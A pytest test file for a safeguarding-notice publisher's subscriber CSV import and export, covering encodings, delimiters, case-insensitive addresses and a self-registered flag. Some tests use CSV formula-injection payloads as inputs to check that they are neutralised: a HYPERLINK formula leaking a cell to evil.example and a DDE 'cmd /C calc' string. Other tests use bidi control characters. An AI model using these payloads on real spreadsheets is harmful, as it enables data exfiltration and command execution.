"""Subscribers from real-world CSV files: encodings, delimiters, headers, case, bad rows."""

import csv
import io
import json
import re
import sqlite3
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from test_web import sign_in
from test_web import web as web  # noqa: F401, PLC0414 - the 'web' fixture, shared
from test_web_trust import SITE, confirm_done, publish_and_send, self_subscribe, status

from publisher.actions import confirm_action
from publisher.config import Config, Organisation
from publisher.migrations import MIGRATIONS
from publisher.notices import find
from publisher.store import Store
from publisher.subscribers import (
    FORMULA_STARTS,
    FREQUENCIES,
    Subscriber,
    canonical_email,
    from_inert,
    inert,
    parse_csv,
    write_csv,
)

NEWS = [{"id": "news", "kind": "feed", "url": "http://127.0.0.1:9/"}]


@pytest.fixture
def people(project, tmp_path):
    """Write a CSV (text or bytes) and import it; returns the CliRunner result."""
    project.configure(NEWS)

    def run(content, *options, expect=0, name="people.csv"):
        path = tmp_path / name
        if isinstance(content, bytes):
            path.write_bytes(content)
        else:
            path.write_text(content, encoding="utf-8")
        return project.run("subscribers", "import", str(path), *options, expect=expect)

    return run


def listed(project, *options):
    output = project.run("subscribers", "list", "--format", "json", *options).output
    return {row["email"]: row for row in json.loads(output)}


# Case: one mailbox, one subscriber, one unsubscribe ---------------------------------------


def test_case_variants_of_one_address_are_one_subscriber(people, project):
    result = people(
        "email,name,school,audiences\n"
        "Jo.Bloggs@School.Example,Jo,Oak,dsls\n"
        "jo.bloggs@school.example,Jo,Oak,headteachers\n"
        "JO.BLOGGS@SCHOOL.EXAMPLE ,Jo,Oak,dsls\n"
    )
    assert "Imported 1 new" in result.stdout
    assert listed(project) == {
        "jo.bloggs@school.example": {
            "email": "jo.bloggs@school.example",
            "name": "Jo",
            "school": "Oak",
            "audiences": ["dsls", "headteachers"],
            "frequency": "immediately",
            "self_service": False,  # imported: the council vouches for the school
        }
    }


@pytest.mark.parametrize(
    "typed", ["Jo.Bloggs@School.Example", "JO.BLOGGS@school.example", " jo.bloggs@SCHOOL.example "]
)
def test_unsubscribe_and_remove_ignore_case(people, project, typed):
    people("email,name,school,audiences\njo.bloggs@school.example,Jo,Oak,dsls\n")
    project.run("subscribers", "unsubscribe", typed)
    assert listed(project) == {}
    again = people("email,name,school,audiences\nJo.Bloggs@School.Example,Jo,Oak,dsls\n")
    assert "jo.bloggs@school.example has unsubscribed (skipped)" in again.stderr


def test_remove_ignores_case(people, project):
    people("email,name,school,audiences\njo@oak.example,Jo,Oak,dsls\n")
    assert project.run("subscribers", "remove", "JO@Oak.Example").stdout == "Removed 1 of 1.\n"
    assert listed(project) == {}


def test_unsubscribing_a_non_address_is_refused_and_changes_nothing(people, project):
    people("email,name,school,audiences\njo@oak.example,Jo,Oak,dsls\n")
    result = project.run("subscribers", "unsubscribe", "jo@oak.example", "not an address", expect=2)
    assert "'not an address' is not an email address" in result.output
    assert list(listed(project)) == ["jo@oak.example"]


def test_migration_merges_case_duplicates_keeping_audiences_and_unsubscribes(tmp_path):
    """A database from before canonical addresses (schema 6) holding case variants."""
    db = sqlite3.connect(tmp_path / "publisher.db")
    for number, sql in enumerate(MIGRATIONS[:6], start=1):
        db.executescript(f"BEGIN;\n{sql}\nPRAGMA user_version = {number};\nCOMMIT;")
    db.executemany(
        "INSERT INTO subscribers (email, name, school, audiences, added_at) VALUES (?,?,?,?,?)",
        [
            ("Jo@Oak.example", "Jo", "Oak", '["dsls"]', "2024-01-01T00:00:00Z"),
            ("jo@oak.example", "", "Oak", '["governors", "dsls"]', "2024-02-01T00:00:00Z"),
            ("sam@ash.example", "Sam", "Ash", '["dsls"]', "2024-01-01T00:00:00Z"),
            ("SAM@ASH.EXAMPLE", "Sam", "Ash", '["dsls"]', "2024-01-01T00:00:00Z"),
        ],
    )
    db.executemany(
        "INSERT INTO unsubscribed (email, at) VALUES (?, ?)",
        [("Sam@Ash.Example", "2024-03-01T00:00:00Z"), ("sam@ash.example", "2024-03-02T00:00:00Z")],
    )
    db.commit()
    db.close()

    store = Store(tmp_path)
    [jo] = store.subscribers()
    assert (jo.email, jo.name, sorted(jo.audiences)) == (
        "jo@oak.example",
        "Jo",
        ["dsls", "governors"],
    )
    assert store.unsubscribed() == {"sam@ash.example"}
    assert store.db.execute("SELECT count(*) FROM subscribers").fetchone()[0] == 2


@given(st.text())
def test_canonical_email_refuses_or_is_idempotent(text):
    try:
        canonical = canonical_email(text)
    except ValueError:
        return
    assert canonical == canonical_email(canonical) == canonical.lower()
    assert canonical == canonical.strip()


# Encodings -----------------------------------------------------------------------------

ROWS = "email,name,school,audiences\nsian@oak.example,Siân Hughes,Ysgol Gymraeg Caerdydd,dsls\n"


@pytest.mark.parametrize(
    "encoded",
    [
        ROWS.encode("utf-8"),
        ROWS.encode("utf-8-sig"),
        ROWS.encode("utf-16"),  # with its byte-order mark, as Excel's "Unicode text"
        ROWS.replace("\n", "\r\n").encode("cp1252"),  # Excel's plain CSV on Windows
    ],
    ids=["utf-8", "utf-8 with BOM", "utf-16", "windows-1252 CRLF"],
)
def test_encodings_excel_writes_are_read(people, project, encoded):
    people(encoded)
    assert listed(project)["sian@oak.example"]["name"] == "Siân Hughes"


def test_bytes_that_are_no_known_encoding_fail_in_one_line(people):
    result = people(b"email,name,school,audiences\njo@oak.example,Jo \x81\x8d,Oak,dsls\n", expect=2)
    assert "not UTF-8 or Windows-1252 text" in result.output
    assert "Traceback" not in result.output


@pytest.mark.parametrize(
    "cell", ["Jo\x00Patel", "Jo\x0bPatel", "Jo\x1bPatel", "\x7fJo"], ids=["NUL", "VT", "ESC", "DEL"]
)
def test_rows_with_control_characters_are_rejected_by_line(people, project, cell):
    result = people(
        f"email,name,school,audiences\nkim@ash.example,Kim,Ash,dsls\njo@oak.example,{cell},Oak,dsls\n"
    )
    assert "line 3: contains control characters" in result.stderr
    assert list(listed(project)) == ["kim@ash.example"]


# Delimiters and headers ----------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "email;name;school;audiences\njo@oak.example;Patel, Jo;Oak;dsls,governors\n",
        "email\tname\tschool\taudiences\njo@oak.example\tPatel, Jo\tOak\tdsls;governors\n",
        'email,name,school,audiences\njo@oak.example,"Patel, Jo",Oak,dsls|governors\n',
        "Email Address,Full Name,Organisation,TAGS\n"
        'jo@oak.example,"Patel, Jo",Oak,DSLs;Governors\n',
    ],
    ids=["semicolons", "tabs", "quoted commas", "mailchimp-style headers"],
)
def test_delimiters_and_header_names_people_use(people, project, text):
    people(text)
    row = listed(project)["jo@oak.example"]
    assert (row["name"], row["school"], row["audiences"]) == (
        "Patel, Jo",
        "Oak",
        ["dsls", "governors"],
    )


def test_first_and_last_name_columns_make_the_name(people, project):
    people("Email Address,First Name,Last Name,Audiences\njo@oak.example,Jo,Patel,dsls\n")
    assert listed(project)["jo@oak.example"]["name"] == "Jo Patel"


def test_a_file_without_an_email_column_fails_in_one_line(people, project):
    result = people("address,name\njo@oak.example,Jo\n", expect=2)
    assert "line 1: no email column (found: address, name" in result.output
    assert not project.data_dir.joinpath("publisher.db").exists() or listed(project) == {}


def test_an_empty_file_fails_in_one_line(people):
    assert "the file is empty" in people("", expect=2).output


# Counting honestly ---------------------------------------------------------------------


def test_duplicates_blank_rows_and_stray_cells(people, project):
    result = people(
        "email,name,school,audiences\n"
        "jo@oak.example,Jo,Oak,dsls\n"
        "kim@ash.example,Kim,Ash,dsls,oops\n"
        "jo@oak.example,Jo,Oak,governors\n"
        ",,,\n"
        "\n"
        "sam@elm.example,Sam,Elm,dsls,,\n"
    )
    assert "line 3: 5 cells but the header names 4" in result.stderr
    assert "line 5" not in result.stderr and "line 6" not in result.stderr
    assert result.stdout.startswith("Imported 2 new subscribers, 0 updated,")
    assert listed(project)["jo@oak.example"]["audiences"] == ["dsls", "governors"]


def test_nothing_imported_exits_1(people, project):
    result = people("email,name,school,audiences\nnot-an-email,Jo,Oak,dsls\n", expect=1)
    assert "nothing imported" in result.stderr


def test_reimport_adds_audiences_unless_replace(people, project):
    people("email,name,school,audiences\njo@oak.example,Jo,Oak,dsls\n")
    again = people("email,name,school,audiences\njo@oak.example,Jo,Oak,governors\n")
    assert "0 new subscribers, 1 updated" in again.stdout
    assert listed(project)["jo@oak.example"]["audiences"] == ["dsls", "governors"]
    same = people("email,name,school,audiences\njo@oak.example,Jo,Oak,dsls\n")
    assert "0 new subscribers, 0 updated, 1 unchanged" in same.stdout
    people("email,name,school,audiences\njo@oak.example,Jo,Oak,governors\n", "--replace")
    assert listed(project)["jo@oak.example"]["audiences"] == ["governors"]


def test_dry_run_shows_and_changes_nothing(people, project):
    people("email,name,school,audiences\njo@oak.example,Jo,Oak,dsls\n")
    result = people(
        "email,name,school,audiences\njo@oak.example,Jo,Oak,governors\nkim@ash.example,Kim,Ash,dsls\n",
        "--dry-run",
    )
    assert "new: kim@ash.example [dsls]" in result.stdout
    assert "updated: jo@oak.example [dsls, governors]" in result.stdout
    assert "Would import 1 new subscriber, 1 updated" in result.stdout
    assert list(listed(project)) == ["jo@oak.example"]


def test_export_round_trips_and_neutralises_formulas(people, project, tmp_path):
    people(
        "email,name,school,audiences\n"
        'jo@oak.example,"=HYPERLINK(""http://evil.example"")",Oak,dsls;governors\n'
        "kim@ash.example,Kim,+Ash,dsls\n"
    )
    exported = tmp_path / "out.csv"
    project.run("subscribers", "export", str(exported))
    text = exported.read_text()
    assert "'=HYPERLINK" in text and ",'+Ash," in text
    before = listed(project)
    people(text, name="again.csv")
    assert listed(project).keys() == before.keys()
    only_governors = project.run("subscribers", "export", "--audience", "governors").stdout
    assert only_governors.splitlines()[1:] == [
        'jo@oak.example,"\'=HYPERLINK(""http://evil.example"")",Oak,dsls;governors,immediately,'
    ]


def test_frequency_column_is_read_and_kept_when_a_file_has_none(people, project):
    people("email,name,school,audiences,frequency\njo@oak.example,Jo,Oak,dsls,Weekly\n")
    assert listed(project)["jo@oak.example"]["frequency"] == "weekly"
    people("email,name,school,audiences\njo@oak.example,Jo,Oak,governors\n")
    assert listed(project)["jo@oak.example"]["frequency"] == "weekly"
    bad = people(
        "email,name,school,audiences,frequency\nkim@ash.example,Kim,Ash,dsls,daily\n", expect=1
    )
    assert "frequency 'daily' is not one of immediately, weekly, monthly" in bad.stderr


# Formula-safe CSV out, and exactly the same values back in -------------------------------

ROUND_TRIP_NAMES = [
    "@Home Nursery",
    "-St Mary's",
    "+44 Academy",
    "=1+1",
    "'t Hooft Academy",
    "'=quoted",
    "''",
    "'",
    "Plain Primary",
]


@pytest.mark.parametrize("name", ROUND_TRIP_NAMES)
def test_export_then_import_keeps_names_and_schools_exactly(people, project, tmp_path, name):
    store = Store(project.data_dir)
    with store.transaction():
        store.save_subscribers([Subscriber("jo@oak.example", name, name, ("dsls",))])
    store.close()
    exported = tmp_path / "out.csv"
    project.run("subscribers", "export", str(exported))
    for cell in next(csv.reader(exported.read_text().splitlines()[1:])):
        assert not cell.startswith(FORMULA_STARTS)
    again = people(exported.read_text(), name="again.csv")
    assert "0 updated, 1 unchanged" in again.stdout
    row = listed(project)["jo@oak.example"]
    assert (row["name"], row["school"]) == (name, name)


@given(st.text(st.characters(blacklist_categories=("Cs", "Cc", "Zl", "Zp")), max_size=40))
def test_a_cell_made_inert_reads_back_as_it_was(text):
    cell = " ".join(text.split())
    assert not inert(cell).startswith(FORMULA_STARTS)
    assert from_inert(inert(cell)) == cell


def test_a_hand_typed_apostrophe_is_kept(people, project):
    people("email,name,school,audiences\njo@oak.example,'t Hooft,'Ohana Nursery,dsls\n")
    row = listed(project)["jo@oak.example"]
    assert (row["name"], row["school"]) == ("'t Hooft", "'Ohana Nursery")


def test_mi_status_csv_is_formula_safe(people, project):
    people(
        "email,name,school,audiences\n"
        'evil@a.example,Eve,"=HYPERLINK(""http://evil.example/?x=""&A2,""Oak"")",dsls\n'
        "jo@oak.example,Jo,-St Mary's,dsls\n"
    )
    project.run(
        "mi", "new", "--title", "Audit", "--type", "Action", "--due", "7", "--audience", "dsls"
    )
    project.run("mi", "approve", "1")
    project.run("mi", "publish", "1", "--at", "2024-01-03 10:00")
    project.run("send", "--mi", "1/24")
    store = Store(project.data_dir)
    confirm_action(store, find(store, "1/24"), "evil@a.example", "@SUM(1+1)*cmd|'/C calc'!A0")
    store.close()
    output = project.run("mi", "status", "1/24", "--format", "csv").output
    rows = list(csv.reader(output.splitlines()))
    assert rows[0] == ["school", "status", "confirmed_by", "confirmed_at", "note"]
    cells = [cell for row in rows[1:] for cell in row]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)
    assert '\'=HYPERLINK("http://evil.example/?x="&A2,"Oak")' in cells
    assert "'@SUM(1+1)*cmd|'/C calc'!A0" in cells and "'-St Mary's" in cells
    assert {from_inert(row[0]) for row in rows[1:]} == {
        '=HYPERLINK("http://evil.example/?x="&A2,"Oak")',
        "-St Mary's",
    }


# Characters that hide or reorder text ---------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        "\u202eevil\u202c",
        "Jo\u202d Patel",
        "\u2066Jo\u2069",
        "Jo\u2067x\u2069",
        "\u202aJo",
        "\u202bJo",
    ],
    ids=["RLO PDF", "LRO", "LRI PDI", "RLI", "LRE", "RLE"],
)
@pytest.mark.parametrize("column", ["name", "school"])
def test_rows_with_bidi_controls_are_rejected_by_line(people, project, cell, column):
    values = {"name": "Jo", "school": "Oak", column: cell}
    result = people(
        "email,name,school,audiences\nkim@ash.example,Kim,Ash,dsls\n"
        f"jo@oak.example,{values['name']},{values['school']},dsls\n"
    )
    assert f"line 3: contains control characters in the {column} cell" in result.stderr
    assert list(listed(project)) == ["kim@ash.example"]


# Line numbers of rows that span lines -----------------------------------------------------


@pytest.mark.parametrize("newline", ["\n", "\r\n"], ids=["LF", "CRLF"])
def test_errors_name_the_line_a_multi_line_row_starts_on(people, project, newline):
    rows = [
        "email,name,school,audiences",
        'kim@ash.example,"Kim',  # line 2: a name over two lines, then an unknown audience
        'Lee",Ash,parents',
        'sam@elm.example,Sam,"Elm',  # line 4: a school over three lines, fine
        "",
        'Primary",dsls',
        "not-an-email,Broken,Nowhere,dsls",  # line 7
        'lee@ash.example,"Lee',  # line 8: and with no audience
        'Smith",Ash,',
    ]
    result = people(newline.join(rows) + newline)
    assert "line 2: unknown audience parents" in result.stderr
    assert "line 7: 'not-an-email' is not an email address" in result.stderr
    assert "line 8: lee@ash.example has no audiences" in result.stderr
    assert listed(project)["sam@elm.example"]["school"] == "Elm Primary"


def test_an_unclosed_quote_names_the_line_it_opens_on(people):
    result = people(
        'email,name,school,audiences\njo@oak.example,Jo,Oak,dsls\nkim@ash.example,"Kim,Ash,dsls\n'
        "sam@elm.example,Sam,Elm,dsls\n",
        expect=None,
    )
    assert "line 3" in result.output and "Traceback" not in result.output


# Who registered themselves survives an export and an import ------------------------------

READERS = [
    Subscriber("mallory@evil.example", "Mallory", "Oak Primary School", ("dsls",), "weekly", True),
    Subscriber("dsl@oak.example", "Jo", "Oak Primary School", ("dsls", "governors")),
    Subscriber("head@ash.example", "=Ann", "'Ash", ("headteachers",), "monthly", True),
]


def save(project, *subscribers: Subscriber) -> None:
    project.configure(NEWS)
    store = Store(project.data_dir)
    with store.transaction():
        store.save_subscribers(list(subscribers))
    store.close()


def self_registered(project) -> dict[str, bool]:
    return {email: row["self_service"] for email, row in listed(project).items()}


def test_export_import_export_keeps_who_registered_themselves(people, project, tmp_path):
    save(project, *READERS)
    first = project.run("subscribers", "export").stdout
    assert first.splitlines()[0] == "email,name,school,audiences,frequency,self_registered"
    assert "mallory@evil.example,Mallory,Oak Primary School,dsls,weekly,yes" in first
    assert "dsl@oak.example,Jo,Oak Primary School,dsls;governors,immediately," in first
    again = people(first, name="all.csv")
    assert "0 new subscribers, 0 updated, 3 unchanged" in again.stdout
    assert project.run("subscribers", "export").stdout == first
    assert self_registered(project) == {
        "mallory@evil.example": True,
        "dsl@oak.example": False,
        "head@ash.example": True,
    }


@pytest.mark.parametrize(
    "header",
    [
        "self_registered",
        "Self registered",
        "SELF-REGISTERED",
        "Self registered?",
        "Self registered (yes/no)",
        "Self-service reader",
    ],
)
@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("yes", True),
        ("YES", True),
        ("  Yes ", True),
        ("true", True),
        ("True", True),
        ("1", True),
        (" 1\t", True),
        ("no", False),
        ("No ", False),
        ("FALSE", False),
        ("0", False),
        ("", False),
        ("   ", False),
    ],
)
def test_the_self_registered_column_reads_the_usual_spellings(
    people, project, header, cell, expected
):
    people(f'email,name,school,audiences,{header}\njo@oak.example,Jo,Oak,dsls,"{cell}"\n')
    assert self_registered(project) == {"jo@oak.example": expected}


@pytest.mark.parametrize("cell", ["maybe", "y", "n", "2", "-1", "yes please", "ja", "'=1", "none"])
def test_a_self_registered_cell_that_says_neither_is_refused_by_line(people, project, cell):
    result = people(
        "email,name,school,audiences,self_registered\n"
        "kim@ash.example,Kim,Ash,dsls,yes\n"
        f'jo@oak.example,Jo,Oak,dsls,"{cell}"\n',
    )
    assert "line 3: self_registered" in result.stderr
    assert "yes or no" in result.stderr and "Traceback" not in result.output
    assert self_registered(project) == {"kim@ash.example": True}


@pytest.mark.parametrize(
    "content",
    [
        "email,name,school,audiences\nmallory@evil.example,Mallory,Oak Primary School,dsls\n",
        "email,name,school,audiences,self_registered\n"
        "mallory@evil.example,Mallory,Oak Primary School,dsls,no\n",
    ],
)
def test_a_row_without_the_column_or_saying_no_is_vouched_for(people, project, content):
    save(project, READERS[0])
    result = people(content)
    assert "1 updated" in result.stdout
    assert self_registered(project) == {"mallory@evil.example": False}


def test_a_team_file_can_mark_a_reader_self_registered(people, project):
    save(project, READERS[1])
    people(
        "email,name,school,audiences,self_registered\n"
        "dsl@oak.example,Jo,Oak Primary School,dsls;governors,Yes\n"
    )
    assert self_registered(project) == {"dsl@oak.example": True}


def test_a_repeated_row_stays_self_registered_if_either_says_so(people, project):
    people(
        "email,name,school,audiences,self_registered\n"
        "jo@oak.example,Jo,Oak,dsls,no\n"
        "JO@oak.example,Jo,Oak,governors,yes\n"
    )
    assert self_registered(project) == {"jo@oak.example": True}


def test_subscribers_list_shows_who_registered_themselves(project):
    save(project, *READERS[:2])
    lines = project.run("subscribers", "list").stdout.splitlines()
    assert lines == [
        "dsl@oak.example  Jo  Oak Primary School  [dsls, governors]",
        "mallory@evil.example  Mallory  Oak Primary School  [dsls]  self-registered",
    ]


TEST_CONFIG = Config(
    path=Path("feeds.yaml"),
    organisation=Organisation("Testshire", "Safeguarding"),
    audiences={"dsls": "DSLs", "governors": "Governors"},
    sources=(),
)
CELL_TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc", "Cf", "Zl", "Zp")), max_size=30)


@given(
    name=CELL_TEXT,
    school=CELL_TEXT,
    audiences=st.lists(st.sampled_from(["dsls", "governors"]), min_size=1, unique=True),
    frequency=st.sampled_from(FREQUENCIES),
    self_service=st.booleans(),
)
def test_write_csv_then_parse_csv_gives_the_same_subscriber(
    name, school, audiences, frequency, self_service
):
    name, school = (" ".join(text.split()) for text in (name, school))
    subscriber = Subscriber(
        "jo@oak.example", name, school, tuple(audiences), frequency, self_service
    )
    output = io.StringIO()
    write_csv([subscriber], output)
    good, bad = parse_csv(output.getvalue().encode(), TEST_CONFIG)
    assert (good, bad) == ([subscriber], [])


def test_download_and_upload_on_the_team_page_keeps_strangers_apart(web, project):
    app = web(site_url=SITE)
    project.import_subscribers("dsl@oak.example,Jo,Oak Primary School,dsls")
    self_subscribe(app.test_client(), project, "mallory@evil.example", "Oak Primary School")
    team = app.test_client()
    sign_in(team, "ap@council.example")
    downloaded = team.get("/team/subscribers.csv").get_data()
    assert b"mallory@evil.example,Mallory,Oak Primary School,dsls,immediately,yes" in downloaded
    page = team.get("/team/subscribers").get_data(as_text=True)
    token = re.search(r'name="csrf_token" value="([^"]+)"', page).group(1)
    upload = {"csrf_token": token, "csv": (io.BytesIO(downloaded), "subscribers.csv")}
    page = team.post("/team/subscribers", data=upload).get_data(as_text=True)
    assert "0 new, 0 updated, 2 unchanged" in page
    [mallory_row] = [row for row in page.split("<tr>") if "mallory@evil.example" in row]
    assert "Self-registered" in mallory_row
    [oak_row] = [row for row in page.split("<tr>") if "dsl@oak.example" in row]
    assert "Self-registered" not in oak_row
    assert team.get("/team/subscribers.csv").get_data() == downloaded

    number = publish_and_send(project)
    confirm_done(app.test_client(), project, "mallory@evil.example", number)
    assert status(project, number)["Oak Primary School"] == ("waiting", None)


def test_a_row_too_short_to_say_self_registered_is_refused_not_vouched(people, project):
    people(
        "email,name,school,audiences,frequency,self_registered\n"
        "mallory@evil.example,Mallory,Oak Primary School,dsls,weekly,yes\n"
    )
    result = people(
        "email,name,school,audiences,frequency,self_registered\n"
        "mallory@evil.example,Mallory,Oak Primary School,dsls,weekly\n",
        expect=1,
    )
    assert "line 2: 5 cells but the header names 6: the self_registered cell is missing" in (
        result.stderr
    )
    assert self_registered(project) == {"mallory@evil.example": True}
